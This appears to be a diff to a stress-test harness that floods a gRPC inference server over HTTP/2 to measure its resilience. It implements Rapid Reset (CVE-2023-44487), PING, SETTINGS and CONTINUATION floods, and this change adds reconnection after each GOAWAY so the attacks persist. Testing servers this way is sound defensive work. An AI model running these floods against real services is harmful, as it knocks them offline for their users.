@@ -62,6 +62,7 @@ BASELINE_S = 3.0  # the normal client alone, before each attack
 SERVER_MAX_OPEN_FILES = 1024  # the server's descriptor limit (prlimit), as many distributions default to
 ATTACKER_MAX_OPEN_FILES = 4096  # our own soft limit, raised for the idle-connections attack
 CALL_TIMEOUT_S = 2.0  # the normal client's deadline per call
+SEND_TIMEOUT_S = 1.0  # an attacker's write the server does not take within this counts as blocked
 CANCEL = 0x8
 SETTINGS_INITIAL_WINDOW_SIZE = 0x4
 
@@ -79,6 +80,7 @@ class Peer:
     closed_s: float | None = None  # when the server closed the connection
     frames: collections.Counter[str] = field(default_factory=collections.Counter)
     resets: collections.Counter[str] = field(default_factory=collections.Counter)
+    is_retired: bool = False  # the attacker closed it (so a later error is not the server's doing)
 
 
 class Watcher:
@@ -101,6 +103,23 @@ class Watcher:
             self.selector.register(sock, selectors.EVENT_READ, peer)
         return peer
 
+    def retire(self, peer: Peer) -> None:
+        """Stops watching a connection the attacker is done with and closes it."""
+        time.sleep(0.005)  # a GOAWAY that is on its way
+        peer.is_retired = True
+        with self.lock:
+            try:
+                self.selector.unregister(peer.sock)
+            except (KeyError, ValueError):
+                pass
+        try:
+            while chunk := peer.sock.recv(1 << 18, socket.MSG_DONTWAIT):
+                peer.buffer += chunk
+        except OSError:
+            pass
+        self._parse(peer)
+        peer.sock.close()
+
     def _run(self) -> None:
         while not self.should_stop:
             with self.lock:
@@ -110,6 +129,8 @@ class Watcher:
                 continue
             for key, _ in self.selector.select(0.05):
                 peer: Peer = key.data
+                if peer.is_retired:
+                    continue
                 try:
                     chunk = peer.sock.recv(1 << 18)
                 except (BlockingIOError, TimeoutError):
@@ -119,7 +140,10 @@ class Watcher:
                 if not chunk:
                     peer.closed_s = self.elapsed()
                     with self.lock:
-                        self.selector.unregister(peer.sock)
+                        try:
+                            self.selector.unregister(peer.sock)
+                        except (KeyError, ValueError):
+                            pass
                     continue
                 peer.buffer += chunk
                 self._parse(peer)
@@ -175,6 +199,7 @@ def open_h2(address: str, timeout_s: float = 5.0) -> tuple[socket.socket, bytes]
         frames = h2fuzz.read_frames(sock, buffer)
         if any(kind == SETTINGS and not flags & ACK for kind, flags, _, _ in frames):
             sock.sendall(frame(SETTINGS, ACK, 0))
+            sock.settimeout(SEND_TIMEOUT_S)
             return sock, bytes(buffer)
         chunk = sock.recv(1 << 16)
         if not chunk:
@@ -182,19 +207,6 @@ def open_h2(address: str, timeout_s: float = 5.0) -> tuple[socket.socket, bytes]
         buffer += chunk
     sock.close()
     raise ConnectionError("the server did not send its SETTINGS")
-
-
-def send(sock: socket.socket, data: bytes, counts: collections.Counter[str]) -> bool:
-    """sendall with the socket's timeout; False once the server stopped taking bytes."""
-    try:
-        sock.sendall(data)
-    except TimeoutError:
-        counts["sends_blocked"] += 1  # the server stopped reading us (backpressure)
-        return False
-    except OSError:
-        counts["sends_failed"] += 1  # the server closed the connection
-        return False
-    return True
 
 
 def call_frames(encoder: hpack.Encoder, stream_id: int, message: bytes, end: bool = True) -> bytes:
@@ -210,85 +222,161 @@ MESSAGE = h2fuzz.grpc_message(h2fuzz.identity_request().SerializeToString())
 # at its count, at ATTACK_S, or when the server cut the connection off.
 
 
-def rapid_reset(address: str, watcher: Watcher) -> dict[str, Any]:
-    """CVE-2023-44487: HEADERS + DATA (a whole ModelInfer call) then RST_STREAM(CANCEL), 100 pairs per write."""
-    max_pairs = 500_000
-    sock, early = open_h2(address)
-    peer, encoder, counts = watcher.add(sock, early), hpack.Encoder(), collections.Counter[str]()
-    stream_id, deadline = 1, time.monotonic() + ATTACK_S
-    while counts["pairs"] < max_pairs and time.monotonic() < deadline and not watcher.is_cut_off(peer):
-        batch = b"".join(call_frames(encoder, stream_id + 2 * i, MESSAGE)
-                         + frame(RST_STREAM, 0, stream_id + 2 * i, struct.pack(">I", CANCEL)) for i in range(100))
-        if not send(sock, batch, counts):
+def send(sock: socket.socket, data: bytes, counts: collections.Counter[str]) -> bool:
+    """sendall with the socket's timeout; False once the server stopped taking bytes."""
+    try:
+        sock.sendall(data)
+    except TimeoutError:
+        counts["sends_blocked"] += 1  # the server stopped reading us (backpressure)
+        return False
+    except OSError:
+        counts["sends_failed"] += 1  # the server closed the connection
+        return False
+    return True
+
+
+def on_new_connections(address: str, watcher: Watcher, counts: collections.Counter[str], seconds: float,
+                       flood: Callable[[Peer], bool]) -> None:
+    """Runs flood(peer) on one connection after another until `seconds` pass or flood returns
+    False (its count is reached): a real attacker reconnects after each GOAWAY."""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            sock, early = open_h2(address)
+        except (OSError, ConnectionError):
+            counts["connects_failed"] += 1
+            time.sleep(0.01)
             continue
-        stream_id += 200
+        counts["connections"] += 1
+        peer = watcher.add(sock, early)
+        while time.monotonic() < deadline and not watcher.is_cut_off(peer):
+            failed_before = counts["sends_failed"]
+            if not flood(peer) and counts["_done"]:
+                watcher.retire(peer)
+                return
+            if counts["sends_failed"] > failed_before:
+                break  # the server closed it (a blocked send is backpressure: go on)
+        watcher.retire(peer)
+
+
+def rapid_reset(address: str, watcher: Watcher) -> dict[str, Any]:
+    """CVE-2023-44487: HEADERS + DATA (a whole ModelInfer call) then RST_STREAM(CANCEL), 100 pairs
+    per write; a new connection after each GOAWAY."""
+    max_pairs, counts = 2_000_000, collections.Counter[str]()
+    state: dict[int, tuple[hpack.Encoder, list[int]]] = {}  # per connection: its encoder, its next stream id
+
+    def flood(peer: Peer) -> bool:
+        if counts["pairs"] >= max_pairs:
+            counts["_done"] = 1
+            return False
+        encoder, stream_id = state.setdefault(id(peer), (hpack.Encoder(), [1]))
+        first = stream_id[0]
+        batch = b"".join(call_frames(encoder, first + 2 * i, MESSAGE)
+                         + frame(RST_STREAM, 0, first + 2 * i, struct.pack(">I", CANCEL)) for i in range(100))
+        if not send(peer.sock, batch, counts):
+            return False
+        stream_id[0] += 200
         counts["pairs"] += 100
-        if stream_id > (1 << 31) - 300:
-            break
-    return dict(counts)
+        return stream_id[0] < (1 << 31) - 300
+
+    on_new_connections(address, watcher, counts, ATTACK_S, flood)
+    return _public(counts)
 
 
 def ping_flood(address: str, watcher: Watcher) -> dict[str, Any]:
-    """PING frames, 1,000 per write, as fast as the server takes them (we read every ACK)."""
-    max_pings = 5_000_000
-    sock, early = open_h2(address)
-    peer, counts = watcher.add(sock, early), collections.Counter[str]()
+    """PING frames, 1,000 per write, as fast as the server takes them (we read every ACK); a new
+    connection after each GOAWAY."""
+    max_pings, counts = 100_000_000, collections.Counter[str]()
     batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
-    deadline = time.monotonic() + ATTACK_S
-    while counts["pings"] < max_pings and time.monotonic() < deadline and not watcher.is_cut_off(peer):
-        if send(sock, batch, counts):
-            counts["pings"] += 1000
-    return dict(counts)
+
+    def flood(peer: Peer) -> bool:
+        if counts["pings"] >= max_pings:
+            counts["_done"] = 1
+            return False
+        if not send(peer.sock, batch, counts):
+            return False
+        counts["pings"] += 1000
+        return True
+
+    on_new_connections(address, watcher, counts, ATTACK_S, flood)
+    return _public(counts)
 
 
 def settings_flood(address: str, watcher: Watcher) -> dict[str, Any]:
-    """SETTINGS frames (each wants an ACK), 500 per write; then, with 1,000 calls open on a second
-    connection, SETTINGS frames of 10,000 INITIAL_WINDOW_SIZE entries each."""
-    max_frames, big_entries, open_calls = 2_000_000, 10_000, 1000
-    sock, early = open_h2(address)
-    peer, counts = watcher.add(sock, early), collections.Counter[str]()
+    """For half the time SETTINGS frames (each wants an ACK), 500 per write; for the other half,
+    with 1,000 calls held open on the connection, SETTINGS frames of 10,000 INITIAL_WINDOW_SIZE
+    entries each (every entry touches every open call's window). A new connection after each GOAWAY."""
+    max_frames, big_entries, open_calls = 20_000_000, 10_000, 1000
+    counts: collections.Counter[str] = collections.Counter()
     small = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * 500
-    deadline = time.monotonic() + ATTACK_S / 2
-    while counts["small_settings"] < max_frames and time.monotonic() < deadline and not watcher.is_cut_off(peer):
-        if send(sock, small, counts):
-            counts["small_settings"] += 500
-    sock, early = open_h2(address)
-    peer, encoder = watcher.add(sock, early), hpack.Encoder()
+
+    def flood_small(peer: Peer) -> bool:
+        if counts["small_settings"] >= max_frames:
+            counts["_done"] = 1
+            return False
+        if not send(peer.sock, small, counts):
+            return False
+        counts["small_settings"] += 500
+        return True
+
+    on_new_connections(address, watcher, counts, ATTACK_S / 2, flood_small)
+    counts["_done"] = 0
     half = MESSAGE[:len(MESSAGE) // 2]  # calls that stay open: their message never completes
-    send(sock, b"".join(call_frames(encoder, 1 + 2 * i, half, end=False) for i in range(open_calls)), counts)
-    counts["calls_held_open"] = open_calls
     big = frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535 + i % 2)
                                          for i in range(big_entries)))
-    deadline = time.monotonic() + ATTACK_S / 2
-    while time.monotonic() < deadline and not watcher.is_cut_off(peer):
-        sent_at = time.monotonic()
-        acks_before = peer.frames["SETTINGS ACK"]
-        if not send(sock, big, counts):
-            continue
+    prepared: set[int] = set()
+
+    def flood_big(peer: Peer) -> bool:
+        if id(peer) not in prepared:
+            prepared.add(id(peer))
+            calls = b"".join(call_frames(hpack.Encoder(), 1 + 2 * i, half, end=False) for i in range(open_calls))
+            if not send(peer.sock, calls, counts):
+                return False
+            counts["calls_held_open"] += open_calls
+        sent_at, acks_before = time.monotonic(), peer.frames["SETTINGS ACK"]
+        if not send(peer.sock, big, counts):
+            return False
         counts["big_settings"] += 1
-        while (peer.frames["SETTINGS ACK"] == acks_before and time.monotonic() < deadline
-               and not watcher.is_cut_off(peer)):
-            time.sleep(0.005)
+        while peer.frames["SETTINGS ACK"] == acks_before and not watcher.is_cut_off(peer):
+            if time.monotonic() - sent_at > ATTACK_S:
+                return False
+            time.sleep(0.002)
         if peer.frames["SETTINGS ACK"] > acks_before:
             counts["big_settings_acked"] += 1
             counts["big_settings_ack_ms_max"] = max(counts["big_settings_ack_ms_max"],
                                                     round((time.monotonic() - sent_at) * 1000))
-    return dict(counts)
+        return True
+
+    on_new_connections(address, watcher, counts, ATTACK_S / 2, flood_big)
+    return _public(counts)
 
 
 def continuation_flood(address: str, watcher: Watcher) -> dict[str, Any]:
-    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames, 10,000 per write."""
-    max_frames = 20_000_000
-    sock, early = open_h2(address)
-    peer, encoder, counts = watcher.add(sock, early), hpack.Encoder(), collections.Counter[str]()
-    block = h2fuzz.request_headers(encoder)
-    send(sock, frame(HEADERS, 0, 1, block[:4]), counts)
+    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames, 10,000 per write; a new
+    connection after each GOAWAY."""
+    max_frames, counts = 50_000_000, collections.Counter[str]()
     batch = frame(CONTINUATION, 0, 1) * 10_000
-    deadline = time.monotonic() + ATTACK_S
-    while counts["continuations"] < max_frames and time.monotonic() < deadline and not watcher.is_cut_off(peer):
-        if send(sock, batch, counts):
-            counts["continuations"] += 10_000
-    return dict(counts)
+    started: set[int] = set()
+
+    def flood(peer: Peer) -> bool:
+        if counts["continuations"] >= max_frames:
+            counts["_done"] = 1
+            return False
+        if id(peer) not in started:
+            started.add(id(peer))
+            if not send(peer.sock, frame(HEADERS, 0, 1, h2fuzz.request_headers(hpack.Encoder())[:4]), counts):
+                return False
+        if not send(peer.sock, batch, counts):
+            return False
+        counts["continuations"] += 10_000
+        return True
+
+    on_new_connections(address, watcher, counts, ATTACK_S, flood)
+    return _public(counts)
+
+
+def _public(counts: collections.Counter[str]) -> dict[str, Any]:
+    return {key: value for key, value in counts.items() if not key.startswith("_")}
 
 
 def idle_connections(address: str, watcher: Watcher) -> dict[str, Any]:
@@ -489,7 +577,7 @@ def markdown(doc: dict[str, Any]) -> str:
              f"({doc['code']['server_files_changed_since_commit']} files under server/ differ from the commit in "
              "the working tree). " + doc["code"]["code_note"] + " " + doc["host_note"], "",
              "| attack | sent | attack s | GOAWAY / close | server CPU s | RSS MiB before -> end -> after | "
-             "client alone P50 / P99 ms | client during P50 / P99 ms (calls/s) | client errors during | "
+             "client alone P50 / P99 ms (calls/s) | client during P50 / P99 ms (calls/s) | client errors during | "
              "fresh connections failed | exit | load before -> after |",
              "|---|---|---|---|---|---|---|---|---|---|---|---|"]
     for r in doc["attacks"]:
@@ -509,13 +597,16 @@ def markdown(doc: dict[str, Any]) -> str:
             f"| {r['attack']} | {sent} | {r.get('attack_s', '-')} | {cut.replace('|', '/')} | "
             f"{r.get('server_cpu_s_during', '-')} | {r.get('rss_mib_before', '-')} -> "
             f"{r.get('rss_mib_at_end_of_attack', '-')} -> {r.get('rss_mib_after', '-')} | {alone.get('p50_ms')} / "
-            f"{alone.get('p99_ms')} | {during.get('p50_ms')} / {during.get('p99_ms')} ({during.get('calls_per_s')}) | "
+            f"{alone.get('p99_ms')} ({alone.get('calls_per_s')}) | "
+            f"{during.get('p50_ms')} / {during.get('p99_ms')} ({during.get('calls_per_s')}) | "
             f"{during.get('errors') or 0} | {during.get('fresh_connection_failed', '-')} of "
             f"{during.get('fresh_connection_calls', '-')} | {r['exit_code_on_sigterm']} | "
             f"{r['load_before']['loadavg'][0]} -> {r['load_after']['loadavg'][0]} |")
-    lines += ["", "Columns: *sent* what the attacker sent before it stopped (its count, "
-              f"{ATTACK_S:.0f} s, or the server cutting it off); *server CPU s* utime+stime of the server during "
-              "the attack (the normal client's calls included); *client* a closed loop of ModelInfer calls on "
+    lines += ["", "Columns: *sent* what the attacker wrote before it stopped (its count, "
+              f"{ATTACK_S:.0f} s, or the server cutting it off; written means handed to the kernel, so after a "
+              "GOAWAY some went to a connection already closing; `connections`: a new one after each GOAWAY); "
+              "*server CPU s* utime+stime of the server during the attack (the normal client's calls included); "
+              "*client* a closed loop of ModelInfer calls on "
               f"`identity` (deadline {CALL_TIMEOUT_S} s) over its own connection, alone for {BASELINE_S:.0f} s "
               "before the attack, then during it; *fresh connections* one call on a new connection each second "
               "during the attack; *exit* the server's exit code on SIGTERM afterwards.", ""]
